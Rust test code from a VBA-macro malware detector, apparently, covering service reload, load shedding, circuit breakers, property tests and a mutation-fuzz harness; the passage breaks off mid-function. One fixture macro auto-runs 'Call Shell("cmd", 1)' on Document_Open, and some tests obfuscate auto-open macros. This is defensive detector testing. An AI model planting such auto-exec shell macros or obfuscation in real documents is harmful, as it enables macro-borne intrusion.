    std::fs::create_dir_all(&dir).unwrap();
    let a = dir.join("a.model");
    std::fs::write(&a, tiny_detector_seeded(7).save()).unwrap();
    let b = dir.join("b.model");
    std::fs::write(&b, tiny_detector_seeded(8).save()).unwrap();

    const RELOADERS: usize = 4;
    let config = ServeConfig::new(ScanPolicy::default());
    let (_, (mut generations, last_fp)) = with_server(&det, &config, |addr| {
        let replies: Vec<String> = thread::scope(|s| {
            let handles: Vec<_> = (0..RELOADERS)
                .map(|i| {
                    let path = if i % 2 == 0 { &a } else { &b };
                    s.spawn(move || {
                        Client::connect(addr).roundtrip(&format!("reload {}", path.display()))
                    })
                })
                .collect();
            handles.into_iter().map(|h| h.join().unwrap()).collect()
        });
        for reply in &replies {
            assert!(reply.contains("\"ok\":true"), "{reply}");
        }
        let winner = replies
            .iter()
            .max_by_key(|r| field_u64(r, "generation"))
            .unwrap();
        let model = Client::connect(addr).roundtrip("model");
        // Last-wins: whichever reload minted the highest generation is
        // the one still serving after the dust settles.
        assert_eq!(
            field_u64(&model, "generation"),
            field_u64(winner, "generation")
        );
        (
            replies
                .iter()
                .map(|r| field_u64(r, "generation"))
                .collect::<Vec<u64>>(),
            (
                field_str(&model, "fingerprint"),
                field_str(winner, "fingerprint"),
            ),
        )
    });
    // Serialized end to end: every reload got its own generation number,
    // with no gaps and no ties.
    generations.sort_unstable();
    assert_eq!(generations, (2..2 + RELOADERS as u64).collect::<Vec<_>>());
    assert_eq!(last_fp.0, last_fp.1);

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_sighup_style_reload_request_is_equivalent_to_the_wire_verb() {
    let _guard = global_guard();
    let det = tiny_detector();
    let dir = std::env::temp_dir().join(format!("vbadet-serve-sighup-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let model = dir.join("rollout.model");
    std::fs::write(&model, tiny_detector_seeded(42).save()).unwrap();

    let mut config = ServeConfig::new(ScanPolicy::default());
    // The CLI wires --model here; the signal handler only sets the latch.
    config.reload_path = Some(model.clone());
    let (_, ()) = with_server(&det, &config, |addr| {
        let mut c = Client::connect(addr);
        assert_eq!(field_u64(&c.roundtrip("model"), "generation"), 1);

        // What the SIGHUP handler does — the accept loop consumes the
        // latch on its next tick and reloads from `reload_path`.
        vbadet::request_reload();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        let signal_reload = loop {
            let model = c.roundtrip("model");
            if field_u64(&model, "generation") == 2 {
                break model;
            }
            assert!(
                std::time::Instant::now() < deadline,
                "signal-driven reload never landed: {model}"
            );
            thread::sleep(std::time::Duration::from_millis(20));
        };

        // The wire verb against the same path: one generation further,
        // same fingerprint — the two paths load the identical model.
        let wire_reload = c.roundtrip(&format!("reload {}", model.display()));
        assert_eq!(field_u64(&wire_reload, "generation"), 3);
        assert_eq!(
            field_str(&wire_reload, "fingerprint"),
            field_str(&signal_reload, "fingerprint")
        );
        assert_eq!(
            field_str(&signal_reload, "version"),
            model.display().to_string()
        );
    });

    let _ = std::fs::remove_dir_all(&dir);
}

#[cfg(unix)]
#[test]
fn bind_unix_refuses_to_replace_a_non_socket_file() {
    let _guard = global_guard();
    let path = std::env::temp_dir().join(format!("vbadet-notsock-{}", std::process::id()));
    std::fs::write(&path, b"precious operator data").unwrap();

    let err = match Listener::bind_unix(&path) {
        Err(e) => e,
        Ok(_) => panic!("bind over a regular file must fail"),
    };
    assert_eq!(err.kind(), std::io::ErrorKind::AlreadyExists);
    let msg = err.to_string();
    assert!(msg.contains("refusing to replace"), "{msg}");
    assert!(msg.contains("not a socket"), "{msg}");
    // The refusal means the file survives untouched.
    assert_eq!(
        std::fs::read(&path).unwrap(),
        b"precious operator data",
        "the non-socket file must not be unlinked"
    );

    let _ = std::fs::remove_file(&path);
}

#[cfg(feature = "faultpoints")]
mod faults {
    use super::*;
    use vbadet_faultpoint::configure;

    #[test]
    fn a_full_queue_sheds_with_a_typed_overloaded_rejection() {
        let _guard = global_guard();
        let det = tiny_detector();
        let dir = std::env::temp_dir().join(format!("vbadet-serve-shed-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let doc = dir.join("doc.bin");
        std::fs::write(&doc, macro_document()).unwrap();

        // Every scan wedges for 400 ms, one worker, a one-deep queue: the
        // first request occupies the worker, the second the queue, and the
        // third must be shed — typed, immediately, not buffered.
        configure("scan::full-parse", "sleep(400)").unwrap();
        let mut config = ServeConfig::new(ScanPolicy::default());
        config.workers = 1;
        config.queue_depth = 1;

        let (summary, third) = with_server(&det, &config, |addr| {
            let mut first = Client::connect(addr);
            let mut second = Client::connect(addr);
            let mut third = Client::connect(addr);
            let line = format!("scan {}", doc.display());
            first.send(&line);
            // Let the worker dequeue the first job before offering the
            // second, so the queue slot is deterministically free for it.
            thread::sleep(Duration::from_millis(150));
            second.send(&line);
            thread::sleep(Duration::from_millis(50));
            third.send(&line);
            let shed = third.recv();
            assert!(
                first.recv().contains("\"kind\":\"macros\""),
                "in-flight request must finish"
            );
            assert!(
                second.recv().contains("\"kind\":\"macros\""),
                "queued request must finish"
            );
            shed
        });
        assert!(third.contains("\"ok\":false"), "{third}");
        assert!(third.contains("\"error\":\"overloaded\""), "{third}");
        assert_eq!(summary.accepted, 2);
        assert_eq!(summary.shed, 1);
        assert_eq!(summary.responses, 3);
        let snapshot = summary.metrics.unwrap();
        assert_eq!(snapshot.histograms["serve.shed"].total, 1);
        assert!(snapshot.histograms["serve.queue_depth"].count >= 2);

        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn the_breaker_opens_on_repeated_worker_deaths_and_recovers_by_probe() {
        let _guard = global_guard();
        let det = tiny_detector();
        let dir = std::env::temp_dir().join(format!("vbadet-serve-brk-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let doc = dir.join("doc.bin");
        std::fs::write(&doc, macro_document()).unwrap();

        // The first two scans die "systemically" (the @1x2 window), then
        // the injection disarms so the recovery probe can succeed.
        configure("serve::inject-death", "return@1x2").unwrap();
        let mut config = ServeConfig::new(ScanPolicy::default());
        config.breaker_threshold = 2;
        config.breaker_backoff = Duration::from_millis(100);

        let (summary, ()) = with_server(&det, &config, |addr| {
            let mut c = Client::connect(addr);
            let line = format!("scan {}", doc.display());
            for _ in 0..2 {
                let dead = c.roundtrip(&line);
                assert!(dead.contains("\"class\":\"fatal\""), "{dead}");
                assert!(dead.contains("injected worker death"), "{dead}");
            }
            let health = c.roundtrip("health");
            assert!(health.contains("\"breaker\":\"open\""), "{health}");
            let ready = c.roundtrip("ready");
            assert!(ready.contains("\"reason\":\"breaker-open\""), "{ready}");

            // While open: fast typed rejection with a retry hint, no
            // worker touched.
            let rejected = c.roundtrip(&line);
            assert!(
                rejected.contains("\"error\":\"breaker-open\""),
                "{rejected}"
            );
            assert!(rejected.contains("\"retry_ms\":"), "{rejected}");

            // Past the cooldown the next scan is the half-open probe; the
            // injection window has closed, so it succeeds and the breaker
            // closes for everyone.
            thread::sleep(Duration::from_millis(150));
            let probe = c.roundtrip(&line);
            assert!(probe.contains("\"kind\":\"macros\""), "{probe}");
            let health = c.roundtrip("health");
            assert!(health.contains("\"breaker\":\"closed\""), "{health}");
        });

        assert_eq!(summary.accepted, 3, "two deaths + the probe");
        assert_eq!(summary.responses, 7);
        let snapshot = summary.metrics.unwrap();
        assert_eq!(snapshot.histograms["serve.breaker_opens"].count, 1);
        assert!(snapshot.histograms["serve.breaker_rejects"].total >= 1);

        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn a_drain_finishes_in_flight_requests_before_the_service_exits() {
        let _guard = global_guard();
        let det = tiny_detector();
        let dir = std::env::temp_dir().join(format!("vbadet-serve-drain-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let doc = dir.join("doc.bin");
        std::fs::write(&doc, macro_document()).unwrap();

        configure("scan::full-parse", "sleep(300)").unwrap();
        let config = ServeConfig::new(ScanPolicy::default());
        let (summary, reply) = with_server(&det, &config, |addr| {
            let mut c = Client::connect(addr);
            c.send(&format!("scan {}", doc.display()));
            // The scan is mid-flight when the drain fires; its terminal
            // response must still arrive before the daemon exits.
            thread::sleep(Duration::from_millis(100));
            vbadet::scan::interrupt::request_drain();
            c.recv()
        });
        assert!(reply.contains("\"kind\":\"macros\""), "{reply}");
        assert!(summary.drained);
        assert_eq!(summary.accepted, 1);
        assert_eq!(summary.responses, 1);

        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn a_poison_document_costs_an_isolate_worker_never_the_service() {
        let _guard = global_guard();
        let det = tiny_detector();
        let dir = std::env::temp_dir().join(format!("vbadet-serve-poison-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let doc = dir.join("doc.bin");
        std::fs::write(&doc, macro_document()).unwrap();
        let safe = dir.join("safe.txt");
        std::fs::write(&safe, b"plain junk, never reaches the OLE parser").unwrap();

        // The workers abort inside the OLE parser (their environment arms
        // the faultpoint); the service process never parses OLE itself.
        let isolate =
            vbadet::IsolateConfig::new(vec![env!("CARGO_BIN_EXE_isolation_worker").to_string()])
                .env("VBADET_FAULTPOINTS", "ole::parse=abort");
        let config = ServeConfig::new(ScanPolicy::default().isolated(isolate));

        let (summary, ()) = with_server(&det, &config, |addr| {
            let mut c = Client::connect(addr);
            let poisoned = c.roundtrip(&format!("scan {}", doc.display()));
            assert!(poisoned.contains("\"class\":\"fatal\""), "{poisoned}");
            assert!(poisoned.contains("quarantined"), "{poisoned}");
            // The service took the hit and keeps answering.
            let health = c.roundtrip("health");
            assert!(health.contains("\"ok\":true"), "{health}");
            let safe_scan = c.roundtrip(&format!("scan {}", safe.display()));
            assert!(safe_scan.contains("unknown-container"), "{safe_scan}");
        });
        assert_eq!(summary.accepted, 2);
        assert_eq!(summary.responses, 3);
        let snapshot = summary.metrics.unwrap();
        assert_eq!(snapshot.histograms["isolate.quarantines"].total, 1);

        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn a_reload_during_drain_is_rejected_typed_and_the_drain_completes() {
        let _guard = global_guard();
        let det = tiny_detector();
        let next = tiny_detector_seeded(13);
        let dir =
            std::env::temp_dir().join(format!("vbadet-serve-reldrain-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let doc = dir.join("doc.bin");
        std::fs::write(&doc, macro_document()).unwrap();
        let model = dir.join("next.model");
        std::fs::write(&model, next.save()).unwrap();

        // Wedge the scan long enough to latch the drain and queue the
        // reload line behind it on the same connection.
        configure("scan::full-parse", "sleep(300)").unwrap();
        let config = ServeConfig::new(ScanPolicy::default());
        let (summary, (scan, reload)) = with_server(&det, &config, |addr| {
            let mut c = Client::connect(addr);
            c.send(&format!("scan {}", doc.display()));
            thread::sleep(Duration::from_millis(100));
            // Both land while the scan wedges: the connection thread will
            // see the reload only after the drain has latched.
            c.send(&format!("reload {}", model.display()));
            vbadet::scan::interrupt::request_drain();
            (c.recv(), c.recv())
        });
        // The in-flight scan still finished under its admitted
        // generation; the reload was refused, not half-applied.
        assert!(scan.contains("\"kind\":\"macros\""), "{scan}");
        assert_eq!(field_u64(&scan, "generation"), 1, "{scan}");
        assert!(reload.contains("\"ok\":false"), "{reload}");
        assert!(reload.contains("\"error\":\"draining\""), "{reload}");
        assert!(
            reload.contains("reload rejected: the service is draining"),
            "{reload}"
        );
        assert!(summary.drained);
        assert_eq!(summary.responses, 2);
        let snapshot = summary.metrics.unwrap();
        assert!(!snapshot.histograms.contains_key("reload.success"));

        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn a_successful_reload_closes_an_open_breaker() {
        let _guard = global_guard();
        let det = tiny_detector();
        let next = tiny_detector_seeded(21);
        let dir = std::env::temp_dir().join(format!("vbadet-serve-relbrk-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let doc = dir.join("doc.bin");
        std::fs::write(&doc, macro_document()).unwrap();
        let model = dir.join("next.model");
        std::fs::write(&model, next.save()).unwrap();

        // Two injected worker deaths trip the breaker; the long backoff
        // guarantees only the reload — never the cooldown — can close it.
        configure("serve::inject-death", "return@1x2").unwrap();
        let mut config = ServeConfig::new(ScanPolicy::default());
        config.breaker_threshold = 2;
        config.breaker_backoff = Duration::from_secs(60);

        let (_, ()) = with_server(&det, &config, |addr| {
            let mut c = Client::connect(addr);
            let line = format!("scan {}", doc.display());
            for _ in 0..2 {
                let dead = c.roundtrip(&line);
                assert!(dead.contains("\"class\":\"fatal\""), "{dead}");
            }
            let health = c.roundtrip("health");
            assert!(health.contains("\"breaker\":\"open\""), "{health}");

            // A reload is allowed while the breaker is open — the swap is
            // the remediation — and a successful one closes it for
            // everyone, no cooldown, no probe.
            let reload = c.roundtrip(&format!("reload {}", model.display()));
            assert!(reload.contains("\"ok\":true"), "{reload}");
            assert_eq!(field_u64(&reload, "generation"), 2);
            let health = c.roundtrip("health");
            assert!(health.contains("\"breaker\":\"closed\""), "{health}");

            // Traffic flows immediately under the new generation.
            let scan = c.roundtrip(&line);
            assert_eq!(field_u64(&scan, "generation"), 2, "{scan}");
            assert!(scan.contains("\"kind\":\"macros\""), "{scan}");
        });

        let _ = std::fs::remove_dir_all(&dir);
    }
}
