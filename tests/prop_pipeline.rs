//! Property-based tests across crate boundaries: arbitrary macro text must
//! survive the full storage pipeline and never break feature extraction.

use proptest::prelude::*;
use vbadet_ovba::{VbaProject, VbaProjectBuilder};
use vbadet_zip::{CompressionMethod, ZipArchive, ZipWriter};

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    /// Printable macro text of any shape survives
    /// compress→OLE→ZIP→unzip→parse→decompress byte-for-byte.
    #[test]
    fn macro_text_survives_full_container_stack(
        code in "[ -~\r\n\t]{0,4000}",
        module in "[A-Za-z][A-Za-z0-9]{0,14}",
    ) {
        let mut project = VbaProjectBuilder::new("Prop");
        project.add_module(&module, &code);
        let bin = project.build().unwrap();

        let mut zip = ZipWriter::new();
        zip.add_file("word/vbaProject.bin", &bin, CompressionMethod::Deflate).unwrap();
        let docm = zip.finish();

        let archive = ZipArchive::parse(&docm).unwrap();
        let bin2 = archive.read_file("word/vbaProject.bin").unwrap();
        prop_assert_eq!(&bin2, &bin);

        let ole = vbadet_ole::OleFile::parse(&bin2).unwrap();
        let parsed = VbaProject::from_ole(&ole).unwrap();
        prop_assert_eq!(parsed.modules.len(), 1);
        prop_assert_eq!(&parsed.modules[0].code, &code);
    }

    /// Feature extraction is total and finite on arbitrary text.
    #[test]
    fn features_total_on_arbitrary_text(code in "\\PC{0,2000}") {
        let v = vbadet_features::v_features(&code);
        let j = vbadet_features::j_features(&code);
        prop_assert!(v.iter().all(|x| x.is_finite()), "{:?}", v);
        prop_assert!(j.iter().all(|x| x.is_finite()), "{:?}", j);
    }

    /// The obfuscation pipeline preserves lexability and entry points for
    /// arbitrary procedure bodies.
    #[test]
    fn obfuscation_preserves_structure(
        statements in proptest::collection::vec("[a-z]{1,8} = [0-9]{1,5}", 1..10),
        seed in any::<u64>(),
    ) {
        use rand::SeedableRng;
        let body: String = statements.iter().map(|s| format!("    {s}\r\n")).collect();
        let src = format!("Sub Document_Open()\r\n{body}End Sub\r\n");
        let mut rng = rand::rngs::StdRng::seed_from_u64(seed);
        let out = vbadet_obfuscate::Obfuscator::new()
            .with(vbadet_obfuscate::Technique::Split)
            .with(vbadet_obfuscate::Technique::Encoding)
            .with(vbadet_obfuscate::Technique::LogicWithIntensity(5))
            .with(vbadet_obfuscate::Technique::Random)
            .apply(&src, &mut rng);
        // Entry point intact, still lexable, still has >= 1 procedure.
        prop_assert!(out.source.contains("Document_Open"));
        let analysis = vbadet_vba::MacroAnalysis::new(&out.source);
        prop_assert!(!analysis.procedure_names().is_empty());
    }

    /// Extraction is total on arbitrary bytes (no panics on garbage).
    #[test]
    fn extraction_total_on_garbage(mut bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
        let _ = vbadet::extract_macros(&bytes);
        // Also with plausible magic prefixes.
        if bytes.len() >= 8 {
            bytes[..8].copy_from_slice(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
            let _ = vbadet::extract_macros(&bytes);
            bytes[..2].copy_from_slice(b"PK");
            let _ = vbadet::extract_macros(&bytes);
        }
    }
}
