//! Deterministic mutation-fuzz harness for the scanning stack.
//!
//! Thousands of seeded mutants (byte flips, truncations, splices) of
//! builder-generated `.doc`/`.docm`/`vbaProject.bin` files are pushed
//! through the batch scan engine. The invariant under test is the
//! robustness contract of ISSUE scope: *no input may panic, hang, or abort
//! the batch* — every mutant must come back as a typed [`ScanOutcome`].
//!
//! The harness is deterministic (fixed seeds, no wall-clock input), so a
//! regression reproduces exactly.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use vbadet::{scan_bytes, Detector, DetectorConfig, FailureClass, ScanLimits, ScanOutcome};
use vbadet_corpus::{generate_macros, CorpusSpec, DocumentFactory};
use vbadet_ovba::VbaProjectBuilder;

const MIN_MUTANTS: usize = 1000;

fn tiny_detector() -> Detector {
    // Verdict quality is irrelevant here; the detector only has to score
    // whatever modules the mutants still yield.
    Detector::train_on_corpus(
        &DetectorConfig::default(),
        &CorpusSpec::paper().scaled(0.002),
    )
}

/// Builder-generated seed documents: real `.doc`/`.docm`/`.xls`/`.xlsm`
/// containers from the corpus factory plus a bare `vbaProject.bin`.
fn base_documents() -> Vec<Vec<u8>> {
    let spec = CorpusSpec::paper().scaled(0.01).with_seed(0xF0AA);
    let macros = generate_macros(&spec);
    let factory = DocumentFactory::new(&spec, &macros);
    let mut docs: Vec<Vec<u8>> = factory
        .build_all()
        .into_iter()
        .map(|f| f.bytes)
        .take(11)
        .collect();
    let mut b = VbaProjectBuilder::new("Seed");
    b.add_module(
        "Module1",
        "Sub Document_Open()\r\n    Call Shell(\"cmd\", 1)\r\nEnd Sub\r\n",
    );
    docs.push(b.build().unwrap());
    assert!(docs.len() >= 4, "corpus draw too small to fuzz");
    docs
}

fn flip_bytes(base: &[u8], rng: &mut StdRng) -> Vec<u8> {
    let mut out = base.to_vec();
    let flips = rng.gen_range(1..=8usize);
    for _ in 0..flips {
        let i = rng.gen_range(0..out.len());
        out[i] ^= rng.gen_range(1..=255u8);
    }
    out
}

fn truncate(base: &[u8], rng: &mut StdRng) -> Vec<u8> {
    base[..rng.gen_range(1..base.len())].to_vec()
}

fn splice(base: &[u8], donor: &[u8], rng: &mut StdRng) -> Vec<u8> {
    let mut out = base.to_vec();
    let len = rng.gen_range(1..=256usize).min(donor.len());
    let src = rng.gen_range(0..=donor.len() - len);
    let dst = rng.gen_range(0..out.len());
    let end = (dst + len).min(out.len());
    out[dst..end].copy_from_slice(&donor[src..src + (end - dst)]);
    out
}

#[test]
fn thousand_mutants_never_panic_the_scan_engine() {
    let detector = tiny_detector();
    let bases = base_documents();
    let limits = ScanLimits::strict();

    let per_round = bases.len() * 3;
    let rounds = MIN_MUTANTS / per_round + 1;
    let mut scanned = 0usize;
    let mut panics = Vec::new();
    let mut histogram = std::collections::BTreeMap::new();

    for round in 0..rounds {
        for (bi, base) in bases.iter().enumerate() {
            let mut rng = StdRng::seed_from_u64(0x5EED_0000 + (round * 1000 + bi) as u64);
            let donor = &bases[(bi + 1) % bases.len()];
            for mutant in [
                flip_bytes(base, &mut rng),
                truncate(base, &mut rng),
                splice(base, donor, &mut rng),
            ] {
                let outcome = scan_bytes(&detector, &mutant, &limits);
                scanned += 1;
                let key = match &outcome {
                    ScanOutcome::Clean => "clean",
                    ScanOutcome::Macros(_) => "macros",
                    ScanOutcome::Salvaged(_) => "salvaged",
                    // `scan_bytes` never runs the ladder, but the enum is shared.
                    ScanOutcome::Recovered { .. } => "recovered",
                    ScanOutcome::Failed { class, .. } => class.label(),
                };
                *histogram.entry(key).or_insert(0usize) += 1;
                if let ScanOutcome::Failed {
                    class: FailureClass::Panic,
                    detail,
                } = outcome
                {
                    panics.push((round, bi, detail));
                }
            }
        }
    }

    assert!(scanned >= MIN_MUTANTS, "only {scanned} mutants scanned");
    assert!(
        panics.is_empty(),
        "{} of {scanned} mutants panicked the parser stack: {:?}",
        panics.len(),
        &panics[..panics.len().min(5)]
    );
    // The harness must actually exercise hostile paths, not just reject
    // everything at the signature sniff.
    let failures: usize = histogram
        .iter()
        .filter(|(k, _)| !matches!(**k, "clean" | "macros" | "salvaged"))
        .map(|(_, v)| v)
        .sum();
    assert!(
        failures > 0,
        "no mutant produced a failure outcome: {histogram:?}"
    );
    eprintln!("mutant outcome histogram over {scanned} inputs: {histogram:?}");
}

#[test]
fn mutants_of_the_raw_project_bin_never_break_extraction() {
    // Direct extraction-level fuzz (below the scan engine): the strict
    // API must return Ok/Err, never unwind.
    let mut b = VbaProjectBuilder::new("P");
    b.add_module(
        "Module1",
        "Sub A()\r\n    x = Chr(65) & Chr(66)\r\nEnd Sub\r\n",
    );
    let base = b.build().unwrap();
    let limits = ScanLimits::strict();
    let mut rng = StdRng::seed_from_u64(0xBADC0DE);
    for _ in 0..500 {
        let mutant = match rng.gen_range(0..3u8) {
            0 => flip_bytes(&base, &mut rng),
            1 => truncate(&base, &mut rng),
            _ => splice(&base, &base, &mut rng),
        };
        let result = std::panic::catch_unwind(|| {
            let _ = vbadet::extract_macros_with_limits(&mutant, &limits);
        });
        assert!(
            result.is_ok(),
            "extraction panicked on a mutant of len {}",
            mutant.len()
        );
    }
}

/// The isolate frame codec under the same mutation discipline: torn,
/// truncated, oversized and garbage frames must all come back as typed
/// `io::Error`s — never a panic, never an unchecked allocation from a
/// hostile length prefix.
#[test]
fn mutated_isolate_frames_fail_typed_and_never_panic() {
    use vbadet::scan::isolate::{read_frame, write_frame, MAX_FRAME_BYTES};

    let mut well_formed = Vec::new();
    write_frame(
        &mut well_formed,
        "{\"type\":\"scan\",\"path\":\"/tmp/x.doc\"}",
    )
    .unwrap();

    let mut rng = StdRng::seed_from_u64(0xF4A3E5);
    let mut decoded = 0usize;
    let mut rejected = 0usize;
    for case in 0..600 {
        let mutant: Vec<u8> = match case % 5 {
            // Torn: a clean frame cut mid-payload (or mid-prefix).
            0 => truncate(&well_formed, &mut rng),
            // Bit-flipped prefix and/or payload.
            1 => flip_bytes(&well_formed, &mut rng),
            // A length prefix far past the cap with no payload behind it:
            // must be rejected *before* any allocation that size.
            2 => {
                let len = rng.gen_range(MAX_FRAME_BYTES as u64 + 1..=u32::MAX as u64) as u32;
                len.to_le_bytes().to_vec()
            }
            // An honest prefix promising more bytes than follow.
            3 => {
                let mut out = (64u32).to_le_bytes().to_vec();
                out.extend_from_slice(&vec![b'x'; rng.gen_range(0..64usize)]);
                out
            }
            // Pure garbage.
            _ => (0..rng.gen_range(0..64usize)).map(|_| rng.gen()).collect(),
        };
        let result = std::panic::catch_unwind(|| read_frame(&mut mutant.as_slice()));
        let result = result.unwrap_or_else(|_| panic!("frame codec panicked on case {case}"));
        match result {
            Ok(Some(_)) => decoded += 1,
            // Clean EOF before the prefix is the codec's "peer finished".
            Ok(None) => {}
            Err(e) => {
                rejected += 1;
                assert!(!e.to_string().is_empty(), "typed error must carry detail");
            }
        }
    }
    assert!(rejected > 0, "no mutant exercised a typed rejection");
    // Flipping payload bytes of a valid frame can legitimately still
    // decode (JSON-ness is the layer above); what matters is zero panics.
    eprintln!("frame mutants: {decoded} decoded, {rejected} typed rejections");
}

/// The service wire-protocol parser: seeded mutants of valid request
/// lines (flips, truncations, splices, raw garbage — including invalid
/// UTF-8 lossily decoded, exactly as the connection reader does) must
/// parse or fail typed, never panic.
#[test]
fn mutated_service_requests_never_panic_the_protocol_parser() {
    use vbadet::serve::parse_request;

    let seeds: Vec<Vec<u8>> = [
        "scan /tmp/a.doc",
        "metrics",
        "health",
        "ready",
        "{\"op\":\"scan\",\"path\":\"/tmp/a.doc\",\"id\":\"r-1\"}",
        "{\"op\":\"scan\",\"bytes_hex\":\"d0cf11e0a1b11ae1\",\"id\":42}",
        "{\"op\":\"metrics\"}",
    ]
    .into_iter()
    .map(|s| s.as_bytes().to_vec())
    .collect();

    let mut rng = StdRng::seed_from_u64(0x5E21E5);
    let mut parsed = 0usize;
    let mut typed = 0usize;
    for round in 0..200 {
        for (si, seed) in seeds.iter().enumerate() {
            let donor = &seeds[(si + 1) % seeds.len()];
            let mutant: Vec<u8> = match round % 4 {
                0 => flip_bytes(seed, &mut rng),
                1 => truncate(seed, &mut rng),
                2 => splice(seed, donor, &mut rng),
                _ => (0..rng.gen_range(0..80usize)).map(|_| rng.gen()).collect(),
            };
            // The connection reader hands the parser lossily-decoded
            // text; mirror that here so invalid UTF-8 is covered too.
            let line = String::from_utf8_lossy(&mutant);
            let result = std::panic::catch_unwind(|| parse_request(&line));
            match result {
                Ok(Ok(_)) => parsed += 1,
                Ok(Err(detail)) => {
                    typed += 1;
                    assert!(!detail.is_empty(), "typed rejection must carry detail");
                }
                Err(_) => panic!("parser panicked on {line:?}"),
            }
        }
    }
    assert!(typed > 0, "no mutant exercised a typed rejection");
    eprintln!("request mutants: {parsed} parsed, {typed} typed rejections");
}

/// The on-disk scan-cache store under the same mutation discipline: torn
/// tails, bit-flipped digests and checksums, truncated segments, spliced
/// lines and oversized entries. Every mutant store must load with typed
/// warnings — zero panics, zero `Err`s — and whatever survives must be a
/// subset of what was written. A corrupted store may forget verdicts; it
/// must never invent or alter one.
#[test]
fn mutated_cache_stores_load_typed_and_never_serve_an_altered_verdict() {
    use std::collections::BTreeMap;
    use std::sync::Arc;
    use vbadet::{scan_paths_with_policy, ScanCache, ScanPolicy};

    let detector = tiny_detector();
    let dir = std::env::temp_dir().join(format!("vbadet-cachefuzz-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();

    // A pristine store built by a real scan over builder-generated
    // documents (dropping the policy drops the cache and syncs the
    // segment to disk).
    let paths: Vec<_> = base_documents()
        .into_iter()
        .enumerate()
        .map(|(i, bytes)| {
            let p = dir.join(format!("doc{i}.bin"));
            std::fs::write(&p, bytes).unwrap();
            p
        })
        .collect();
    let store = dir.join("store");
    {
        let cache = ScanCache::persistent(&store, 1024).unwrap();
        let policy = ScanPolicy::default().with_cache(Arc::new(cache));
        scan_paths_with_policy(&detector, &paths, &policy);
    }
    let segment = {
        let mut segments: Vec<_> = std::fs::read_dir(&store)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        segments.sort();
        assert_eq!(segments.len(), 1, "expected one segment: {segments:?}");
        segments.remove(0)
    };
    let pristine = std::fs::read(&segment).unwrap();
    let baseline: BTreeMap<String, ScanOutcome> = {
        let cache = ScanCache::persistent(&store, 1024).unwrap();
        assert!(cache.load_warnings().is_empty());
        cache.entries().into_iter().collect()
    };
    assert!(baseline.len() >= 4, "store too small to fuzz meaningfully");

    // One entry line far past the per-line cap: the loader must reject it
    // by length — typed warning, never a cap-sized parse.
    let oversized = {
        let mut line = vec![b'a'; (1 << 20) + 64];
        line.push(b'\n');
        line
    };

    let scratch = dir.join("scratch");
    let mut rng = StdRng::seed_from_u64(0xCAC4E5EED);
    let mut damaged_loads = 0usize;
    let mut entries_lost = 0usize;
    for case in 0..300 {
        let mutant: Vec<u8> = match case % 5 {
            // Bit flips anywhere: header, digest hex, checksum, payload.
            0 => flip_bytes(&pristine, &mut rng),
            // Torn tail / truncated segment (including mid-header).
            1 => truncate(&pristine, &mut rng),
            // Lines spliced over each other.
            2 => splice(&pristine, &pristine, &mut rng),
            // A pristine store with an oversized entry appended.
            3 => {
                let mut out = pristine.clone();
                out.extend_from_slice(&oversized);
                out
            }
            // Pure garbage the length of a small segment.
            _ => (0..rng.gen_range(1..4096usize))
                .map(|_| rng.gen())
                .collect(),
        };
        let _ = std::fs::remove_dir_all(&scratch);
        std::fs::create_dir_all(&scratch).unwrap();
        std::fs::write(scratch.join(segment.file_name().unwrap()), &mutant).unwrap();

        let loaded = std::panic::catch_unwind(|| ScanCache::persistent(&scratch, 1024))
            .unwrap_or_else(|_| panic!("loading mutant store {case} panicked"));
        let cache = loaded.unwrap_or_else(|e| {
            panic!("mutant store {case} must load with warnings, got Err: {e}")
        });
        for (digest, outcome) in cache.entries() {
            match baseline.get(&digest) {
                Some(original) => assert_eq!(
                    &outcome, original,
                    "mutant store {case} altered the verdict for {digest}"
                ),
                None => panic!("mutant store {case} invented an entry for {digest}"),
            }
        }
        if !cache.load_warnings().is_empty() {
            damaged_loads += 1;
        }
        if cache.len() < baseline.len() {
            entries_lost += 1;
        }
    }
    // The harness must actually exercise the damage paths, not just
    // reload pristine bytes 300 times.
    assert!(damaged_loads > 0, "no mutant produced a load warning");
    assert!(entries_lost > 0, "no mutant ever dropped an entry");
    eprintln!("cache-store mutants: {damaged_loads} loads warned, {entries_lost} lost entries");

    let _ = std::fs::remove_dir_all(&dir);
}

// ---------------------------------------------------------------------------
// Typed-outcome fixtures: one hand-built hostile input per outcome class.
// ---------------------------------------------------------------------------

/// A stomped `dir` stream must fail strict parsing but still yield the
/// module source through salvage, tagged as such.
#[test]
fn fixture_stomped_dir_stream_is_salvaged() {
    let detector = tiny_detector();
    let code = "Attribute VB_Name = \"Module1\"\r\nSub Payload()\r\n    y = 2\r\nEnd Sub\r\n";
    let mut b = VbaProjectBuilder::new("P");
    b.add_module("Module1", code);
    let bin = b.build().unwrap();

    let parsed = vbadet_ole::OleFile::parse(&bin).unwrap();
    let mut rebuilt = vbadet_ole::OleBuilder::new();
    for path in parsed.stream_paths().unwrap() {
        let data = parsed.open_stream(&path).unwrap();
        if path == "VBA/dir" {
            rebuilt.add_stream(&path, &vec![0xFF; data.len()]).unwrap();
        } else {
            rebuilt.add_stream(&path, &data).unwrap();
        }
    }
    let outcome = scan_bytes(&detector, &rebuilt.build(), &ScanLimits::default());
    match outcome {
